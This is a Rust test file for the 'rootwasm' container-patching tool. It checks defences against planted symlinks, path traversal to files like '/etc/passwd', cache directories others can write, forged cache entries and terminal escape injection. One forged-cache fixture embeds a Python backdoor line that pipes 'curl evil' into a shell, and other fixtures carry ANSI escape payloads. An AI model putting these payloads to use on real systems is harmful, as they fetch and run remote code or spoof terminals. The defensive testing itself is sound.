//! Local attack surfaces: planted names in a committed tree, recipe artifacts
//! outside the recipe, cache directories others can write, terminal output.

use crate::support::*;
use rootwasm::commit::commit;
use rootwasm::image::cache::LayerCache;
use rootwasm::image::layer::{Entry, EntryKind, LayerIndex};
use rootwasm::image::model::Digest;
use rootwasm::journal::Sha256Hex;
use rootwasm::rootfs::DirRoot;
use rootwasm::sandbox::{CacheUse, ComponentCache, Sandbox, SandboxOptions};
use rootwasm::scope::Scope;
use rootwasm::session::{Phase, Session, SessionLimits};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::fs::symlink;
use std::path::Path;
use std::sync::Arc;

const LIMITS: SessionLimits = SessionLimits {
    max_written: 1 << 20,
    max_read: 1 << 20,
};

/// `run --commit` must not follow a temporary name someone planted in the tree.
#[test]
fn commit_ignores_planted_temporary_names() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("root");
    std::fs::create_dir_all(root.join("etc")).unwrap();
    std::fs::write(root.join("etc/target"), "old\n").unwrap();
    std::fs::write(root.join("etc/victim"), "victim\n").unwrap();
    // The old fixed temporary name, and a dangling one pointing outside the root.
    symlink("victim", root.join("etc/.target.rootwasm-tmp")).unwrap();
    std::fs::write(tmp.path().join("outside"), "outside\n").unwrap();
    symlink(
        tmp.path().join("outside"),
        root.join("etc/.target.rootwasm-tmp2"),
    )
    .unwrap();
    let dir = Arc::new(DirRoot::open(&root).unwrap());
    let scope = Scope::new(&["/etc/target".into()], &["/etc/target".into()]).unwrap();
    let mut s = Session::new(dir.clone(), scope, "t", LIMITS);
    s.set_phase(Phase::Apply);
    s.write_file("/etc/target", b"new\n".to_vec(), 0o640)
        .unwrap();
    let changes = s.finish();
    commit(&dir, &changes.entries, &changes.blobs).unwrap();

    assert_eq!(std::fs::read(root.join("etc/target")).unwrap(), b"new\n");
    assert_eq!(std::fs::read(root.join("etc/victim")).unwrap(), b"victim\n");
    assert_eq!(
        std::fs::read(tmp.path().join("outside")).unwrap(),
        b"outside\n"
    );
    let link = std::fs::read_link(root.join("etc/.target.rootwasm-tmp")).unwrap();
    assert_eq!(link, std::path::Path::new("victim"));
    let mut names: Vec<_> = std::fs::read_dir(root.join("etc"))
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    assert_eq!(
        names,
        [
            ".target.rootwasm-tmp",
            ".target.rootwasm-tmp2",
            "target",
            "victim"
        ],
        "no temporary file is left behind"
    );
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(root.join("etc/target"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o7777, 0o640);
}

/// A recipe directory with one artifact at `path`, pinned to `sha256`.
fn artifact_recipe(dir: &std::path::Path, path: &str, sha256: &str) -> std::path::PathBuf {
    let d = dir.join("r");
    std::fs::create_dir_all(&d).unwrap();
    std::fs::write(
        d.join("recipe.toml"),
        format!(
            r#"id = "x-1"
type = "backport"
summary = "s"
[[fixes]]
id = "CVE-2023-1"
severity = "high"
published = "2023-05-22"
[target]
ecosystem = "generic"
package = "x"
affected = "*"
[component]
path = "recipe.wasm"
sha256 = "00"
[[artifacts]]
path = {path:?}
sha256 = "{sha256}"
"#
        ),
    )
    .unwrap();
    d
}

fn sha256_hex(b: &[u8]) -> String {
    use sha2::Digest;
    hex::encode(sha2::Sha256::digest(b))
}

/// Artifacts load only from inside the recipe directory, through no symlink,
/// and a wrong pin on a host file never prints that file's hash.
#[test]
fn artifacts_resolve_inside_the_recipe_without_symlinks() {
    use rootwasm::recipe::Recipe;
    let tmp = tempfile::tempdir().unwrap();
    let host = tmp.path().join("host");
    std::fs::create_dir_all(&host).unwrap();
    let secret = b"host secret\n";
    std::fs::write(host.join("secret"), secret).unwrap();
    let secret_sha = sha256_hex(secret);

    // A symlinked subdirectory and a symlinked file, with the right pin and a wrong one.
    for (path, plant) in [
        ("sub/secret", "dir"),
        ("file", "file"),
        ("a/b/secret", "deep"),
    ] {
        for pin in [secret_sha.clone(), "0".repeat(64)] {
            let case = tempfile::tempdir().unwrap();
            let d = artifact_recipe(case.path(), path, &pin);
            match plant {
                "dir" => symlink(&host, d.join("sub")).unwrap(),
                "file" => symlink(host.join("secret"), d.join("file")).unwrap(),
                _ => {
                    std::fs::create_dir_all(d.join("a")).unwrap();
                    symlink(&host, d.join("a/b")).unwrap();
                }
            }
            let e = Recipe::load_without_component(&d).unwrap_err().to_string();
            assert!(e.contains("symlink"), "{path}: {e}");
            assert!(
                !e.contains(&secret_sha),
                "{path}: the error leaks the host file's hash: {e}"
            );
        }
    }
    // `..` and absolute paths are refused before anything is opened.
    for path in ["../host/secret", "/etc/passwd", "a/../../host/secret", ""] {
        let case = tempfile::tempdir().unwrap();
        let d = artifact_recipe(case.path(), path, &secret_sha);
        let e = Recipe::load_without_component(&d).unwrap_err().to_string();
        assert!(e.contains("inside the recipe directory"), "{path:?}: {e}");
    }
    // A FIFO is refused, not waited on.
    let case = tempfile::tempdir().unwrap();
    let d = artifact_recipe(case.path(), "fifo", &secret_sha);
    let made = std::process::Command::new("mkfifo")
        .arg(d.join("fifo"))
        .status()
        .unwrap();
    assert!(made.success());
    let e = Recipe::load_without_component(&d).unwrap_err().to_string();
    assert!(e.contains("regular file"), "{e}");
    // A real file in a real subdirectory still loads.
    let case = tempfile::tempdir().unwrap();
    let d = artifact_recipe(case.path(), "data/secret", &secret_sha);
    std::fs::create_dir_all(d.join("data")).unwrap();
    std::fs::write(d.join("data/secret"), secret).unwrap();
    let (_, artifacts) = Recipe::load_without_component(&d).unwrap();
    assert_eq!(artifacts["secret"], secret);
}

/// Ways a cache directory can be open to someone else, each applied to a fresh copy.
fn unsafe_variants(good: &Path, parent: &Path) -> Vec<(&'static str, std::path::PathBuf)> {
    let copy = |name: &str| {
        let d = parent.join(name);
        copy_tree(good, &d);
        std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o700)).unwrap();
        d
    };
    let mut out = Vec::new();
    let d = copy("world-writable");
    std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o777)).unwrap();
    out.push(("world-writable", d));
    let d = copy("group-readable");
    std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o750)).unwrap();
    out.push(("group-readable", d));
    let real = copy("real");
    let link = parent.join("symlinked");
    symlink(&real, &link).unwrap();
    out.push(("symlink", link));
    // A directory under a world-writable, non-sticky parent can be swapped.
    let open_parent = parent.join("open-parent");
    std::fs::create_dir(&open_parent).unwrap();
    std::fs::set_permissions(&open_parent, std::fs::Permissions::from_mode(0o777)).unwrap();
    let d = open_parent.join("cache");
    copy_tree(good, &d);
    std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o700)).unwrap();
    out.push(("open parent", d));
    if rustix::process::geteuid().is_root() {
        let d = copy("other-owner");
        rustix::fs::chown(&d, Some(rustix::fs::Uid::from_raw(65534)), None).unwrap();
        out.push(("other owner", d));
    }
    out
}

/// A planted precompiled component runs only if it is in a private directory
/// and its header binds it to this wasm and engine.
#[test]
fn component_cache_uses_only_private_bound_entries() {
    let tmp = tempfile::tempdir().unwrap();
    let recipes = tmp.path().join("recipes");
    let a =
        rootwasm::recipe::Recipe::load(&recipe_dir(&recipes, "a", guest("trivial"), "")).unwrap();
    let b =
        rootwasm::recipe::Recipe::load(&recipe_dir(&recipes, "b", guest("hostile"), "")).unwrap();
    let load = |dir: &Path, r: &rootwasm::recipe::Recipe| {
        let sandbox = Sandbox::new(SandboxOptions {
            cache: ComponentCache::new(dir.to_owned()),
            ceilings: Default::default(),
        })
        .unwrap();
        sandbox.load(r).unwrap().cache
    };
    let good = tmp.path().join("good");
    assert_eq!(load(&good, &a), CacheUse::Compiled);
    assert_eq!(load(&good, &a), CacheUse::Hit, "a private cache is used");

    // A sandbox loads a component once for all the recipes sharing it, but
    // only for the same bytes: other bytes under its sha256 are refused.
    let sandbox = Sandbox::new(SandboxOptions {
        cache: ComponentCache::new(good.clone()),
        ceilings: Default::default(),
    })
    .unwrap();
    sandbox.load(&a).unwrap();
    let mut swapped = a.clone();
    swapped.component = b.component.clone();
    let e = sandbox
        .load(&swapped)
        .err()
        .expect("other bytes were loaded");
    assert!(e.message.contains("sha256"), "{e}");
    assert!(sandbox.load(&a).is_ok());
    let mode = std::fs::metadata(&good).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o700, "the cache is created private");

    for (what, dir) in unsafe_variants(&good, tmp.path()) {
        assert_eq!(
            load(&dir, &a),
            CacheUse::Compiled,
            "{what}: a planted entry was loaded"
        );
    }

    // In a private cache: b's code under a's name, a damaged copy, a headerless copy.
    let entry = |dir: &Path| {
        let c = dir.join("components");
        let mut files: Vec<_> = std::fs::read_dir(&c)
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
        files.sort();
        files
    };
    let b_cache = tmp.path().join("b-cache");
    assert_eq!(load(&b_cache, &b), CacheUse::Compiled);
    let a_file = entry(&good).pop().unwrap();
    let b_file = entry(&b_cache).pop().unwrap();
    let a_bytes = std::fs::read(&a_file).unwrap();
    let tampers: Vec<(&str, Vec<u8>)> = vec![
        ("another wasm's code", std::fs::read(&b_file).unwrap()),
        ("one byte of code changed", {
            let mut v = a_bytes.clone();
            *v.last_mut().unwrap() ^= 0x55;
            v
        }),
        ("no header", {
            let split = a_bytes.windows(2).position(|w| w == b"\n\n").unwrap();
            a_bytes[split + 2..].to_vec()
        }),
    ];
    for (what, bytes) in tampers {
        std::fs::write(&a_file, bytes).unwrap();
        assert_eq!(load(&good, &a), CacheUse::Compiled, "{what} was loaded");
    }
}

fn layer_index(content: &[u8]) -> LayerIndex {
    let sha = Sha256Hex::of(content);
    LayerIndex {
        entries: vec![Entry {
            path: rootwasm::rootfs::RootPath::lexical("/app/sessions.py").unwrap(),
            name: "app/sessions.py".into(),
            kind: EntryKind::File {
                content: Some(sha.clone()),
            },
            mode: 0o644,
            uid: 0,
            gid: 0,
            size: content.len() as u64,
            mtime: 0,
            xattrs: vec![],
        }],
        contents: [(sha, content.to_vec())].into_iter().collect(),
    }
}

/// A cached layer index is used only from a private directory, and only for
/// the layer, capture set and format it was made for, with every captured
/// file matching its hash and size.
#[test]
fn layer_cache_refuses_unsafe_directories_and_forged_entries() {
    let tmp = tempfile::tempdir().unwrap();
    let layer = Digest::of(b"layer");
    let other_layer = Digest::of(b"other layer");
    let diff_id = Digest::of(b"diff");
    let good = tmp.path().join("good");
    let honest = layer_index(b"def session(): pass\n");
    LayerCache::new(good.clone()).store(&layer, "k", &diff_id, &honest);
    let (d, idx) = LayerCache::new(good.clone())
        .load(&layer, "k")
        .expect("a private cache is used");
    assert_eq!(d, diff_id);
    assert_eq!(idx.contents, honest.contents);

    for (what, dir) in unsafe_variants(&good, tmp.path()) {
        assert!(
            LayerCache::new(dir).load(&layer, "k").is_none(),
            "{what}: a planted index was used"
        );
    }

    let index_file =
        |l: &Digest, key: &str| good.join("layers").join(format!("{}-{key}.json", l.hex()));
    // Copied under another layer's or capture set's name.
    std::fs::copy(index_file(&layer, "k"), index_file(&other_layer, "k")).unwrap();
    std::fs::copy(index_file(&layer, "k"), index_file(&layer, "all")).unwrap();
    assert!(
        LayerCache::new(good.clone())
            .load(&other_layer, "k")
            .is_none()
    );
    assert!(LayerCache::new(good.clone()).load(&layer, "all").is_none());

    let original: serde_json::Value =
        serde_json::from_slice(&std::fs::read(index_file(&layer, "k")).unwrap()).unwrap();
    let backdoor = b"import os; os.system('curl evil | sh')\n";
    let backdoor_sha = Sha256Hex::of(backdoor);
    let forge = |f: &dyn Fn(&mut serde_json::Value)| {
        let mut v = original.clone();
        f(&mut v);
        std::fs::write(index_file(&layer, "k"), serde_json::to_vec(&v).unwrap()).unwrap();
        LayerCache::new(good.clone()).load(&layer, "k").is_none()
    };
    // The entry points at content the index does not carry.
    assert!(forge(
        &|v| v["entries"][0]["kind"]["File"]["content"] = backdoor_sha.to_string().into()
    ));
    // A second blob nobody uses, and a size that does not match.
    std::fs::write(good.join("contents").join(backdoor_sha.as_str()), backdoor).unwrap();
    assert!(forge(&|v| v["contents"]
        .as_array_mut()
        .unwrap()
        .push(backdoor_sha.to_string().into())));
    assert!(forge(&|v| v["entries"][0]["size"] = 1.into()));
    // The old unbound format, and a blob whose bytes are not its name's hash.
    assert!(forge(&|v| {
        let o = v.as_object_mut().unwrap();
        o.remove("format");
        o.remove("layer");
        o.remove("capture_key");
    }));
    assert!(!forge(&|_| {}), "the honest index still loads");
    let blob = good
        .join("contents")
        .join(honest.contents.keys().next().unwrap().as_str());
    std::fs::write(&blob, backdoor).unwrap();
    assert!(LayerCache::new(good.clone()).load(&layer, "k").is_none());
}

/// `scan` and error messages show names from an image escaped, never raw.
#[test]
fn scan_and_errors_escape_what_the_image_says() {
    use crate::images::*;
    let tmp = tempfile::tempdir().unwrap();
    let status = "Package: evil\x1b[2J\u{202e}\nStatus: install ok installed\n\
                  Version: 1.0\x1b[8m\nArchitecture: amd64\n\n";
    let os = "ID=debian\nVERSION_ID=\"12\"\nPRETTY_NAME=\"Debian\x1b]0;owned\x07\u{9b}2J\"\n";
    let layer = Layer::raw(&[
        ("etc/", tar::EntryType::Directory, b""),
        ("etc/os-release", tar::EntryType::Regular, os.as_bytes()),
        ("var/", tar::EntryType::Directory, b""),
        ("var/lib/", tar::EntryType::Directory, b""),
        ("var/lib/dpkg/", tar::EntryType::Directory, b""),
        (
            "var/lib/dpkg/status",
            tar::EntryType::Regular,
            status.as_bytes(),
        ),
    ]);
    let img = image(&[layer], "amd64");
    let input = tmp.path().join("in");
    write_layout(&input, &[(&img, "amd64")], "v1");
    let recipes = tmp.path().join("recipes");
    recipe_dir(&recipes, "t", guest("trivial"), "");
    let image_ref = format!("oci:{}:v1", input.display());
    let o = rootwasm(&["scan", &image_ref, "--recipes", recipes.to_str().unwrap()]);
    let (out, err) = text(&o);
    assert!(o.status.success(), "{out}{err}");
    for raw in ['\x1b', '\x07', '\u{9b}', '\u{202e}'] {
        assert!(
            !out.contains(raw) && !err.contains(raw),
            "{raw:?} raw in: {out}{err}"
        );
    }
    assert!(out.contains("evil\\x1b[2J\\u{202e}"), "{out}");
    assert!(out.contains("1.0\\x1b[8m"), "{out}");
    assert!(out.contains("Debian\\x1b]0;owned\\x07\\x9b2J"), "{out}");
    // --json stays JSON, with the control characters escaped by serde.
    let o = rootwasm(&[
        "scan",
        &image_ref,
        "--recipes",
        recipes.to_str().unwrap(),
        "--json",
    ]);
    assert!(!o.stdout.contains(&0x1b), "raw ESC in JSON");
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let names: Vec<_> = v["platforms"][0]["inventory"]["packages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["name"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(names, ["evil\x1b[2J\u{202e}"]);

    // An error naming something hostile.
    let o = rootwasm(&[
        "scan",
        "oci:/nonexistent/\x1b[2Jdir:v1",
        "--recipes",
        recipes.to_str().unwrap(),
    ]);
    let (_, err) = text(&o);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(
        err.contains("\\x1b[2Jdir") && !err.contains('\x1b'),
        "{err}"
    );
}

/// Without HOME, XDG_CACHE_HOME or ROOTWASM_CACHE_DIR there is no cache: the
/// shared temporary directory, where anyone could plant entries, is not used.
#[test]
fn no_home_means_no_cache_not_a_shared_temp_dir() {
    let tmp = tempfile::tempdir().unwrap();
    let shared_tmp = tmp.path().join("shared-tmp");
    std::fs::create_dir(&shared_tmp).unwrap();
    std::fs::set_permissions(&shared_tmp, std::fs::Permissions::from_mode(0o1777)).unwrap();
    let recipe = recipe_dir(&tmp.path().join("recipes"), "t", guest("trivial"), "");
    let rootfs = tmp.path().join("rootfs");
    std::fs::create_dir_all(rootfs.join("etc")).unwrap();
    let o = std::process::Command::new(env!("CARGO_BIN_EXE_rootwasm"))
        .args([
            "run",
            recipe.to_str().unwrap(),
            "--rootfs",
            rootfs.to_str().unwrap(),
        ])
        .env_remove("HOME")
        .env_remove("XDG_CACHE_HOME")
        .env_remove("ROOTWASM_CACHE_DIR")
        .env("TMPDIR", &shared_tmp)
        .output()
        .unwrap();
    let (out, err) = text(&o);
    assert!(err.contains("there is no cache location"), "{out}{err}");
    assert!(err.contains("continuing without a cache"), "{err}");
    assert_eq!(
        std::fs::read_dir(&shared_tmp).unwrap().count(),
        0,
        "nothing was cached in the shared temporary directory"
    );
}
